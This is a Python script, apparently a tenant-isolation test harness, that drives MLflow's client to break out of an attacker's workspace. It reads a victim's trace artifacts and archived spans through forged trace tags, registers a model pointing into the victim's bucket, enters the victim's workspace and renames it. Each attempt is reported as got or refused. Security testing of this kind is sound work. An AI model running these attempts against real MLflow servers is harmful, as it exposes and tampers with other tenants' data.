"""Tries to leave a project with MLflow's own Python client, and prints what came of each attempt as JSON.

Environment: MLFLOW_TRACKING_URI, MLFLOW_TRACKING_TOKEN (through the gateway), MLFLOW_WORKSPACE (the attacker's project).
Arguments: the victim's project, where the files of one of the victim's traces lie, a directory of archived spans on the
server, and a place in the victim's bucket.
"""

import json
import os
import sys
import uuid
import warnings

warnings.simplefilter("ignore")

import mlflow
from mlflow import MlflowClient
from mlflow.entities import TraceState
from mlflow.entities.trace_info import TraceInfo
from mlflow.entities.trace_location import TraceLocation
from mlflow.utils.rest_utils import http_request
from mlflow.tracking._tracking_service.utils import _get_store

victim, trace_location, archive, foreign_source = sys.argv[1:]
client = MlflowClient()
name = f"attacker-{uuid.uuid4()}"
experiment = client.create_experiment(name)


def new_trace(tags: dict | None = None) -> str:
    info = TraceInfo(
        trace_id=f"tr-{uuid.uuid4().hex}",
        trace_location=TraceLocation.from_experiment_id(experiment),
        request_time=0,
        state=TraceState.OK,
        execution_duration=1,
        tags=tags or {},
    )
    return _get_store().start_trace(info).trace_id


def trace_data(trace_id: str) -> str:
    path = f"/ajax-api/3.0/mlflow/get-trace-artifact?request_id={trace_id}"
    return http_request(_get_store().get_host_creds(), path, "GET").text


def read_by_trace_tag() -> str:
    trace_id = new_trace()
    _get_store().set_trace_tag(trace_id, "mlflow.artifactLocation", trace_location)  # the client's own check is no check
    return trace_data(trace_id)


def read_by_archive() -> str:
    tags = {"mlflow.trace.spansLocation": "ARCHIVE_REPO", "mlflow.trace.archiveLocation": archive}
    return trace_data(new_trace(tags))


def register_foreign_source() -> str:
    client.create_registered_model(name)
    return client.create_model_version(name, foreign_source).source


def list_workspaces() -> list[str]:
    return sorted(workspace.name for workspace in mlflow.list_workspaces())


def rename_workspace() -> str:
    return mlflow.update_workspace(victim, description="taken over").description


def use_default_workspace() -> list[str]:
    os.environ["MLFLOW_WORKSPACE"] = "default"
    mlflow.set_workspace("default")
    return [found.name for found in client.search_experiments()]


def enter_project() -> list[str]:
    os.environ["MLFLOW_WORKSPACE"] = victim
    mlflow.set_workspace(victim)
    return [found.name for found in client.search_experiments()]


def attempt(run) -> dict:
    try:
        return {"got": run()}
    except Exception as error:
        return {"refused": str(error)}


ATTEMPTS = [
    read_by_trace_tag,
    read_by_archive,
    register_foreign_source,
    list_workspaces,
    use_default_workspace,
    enter_project,
    rename_workspace,
]
print(json.dumps({run.__name__: attempt(run) for run in ATTEMPTS}))
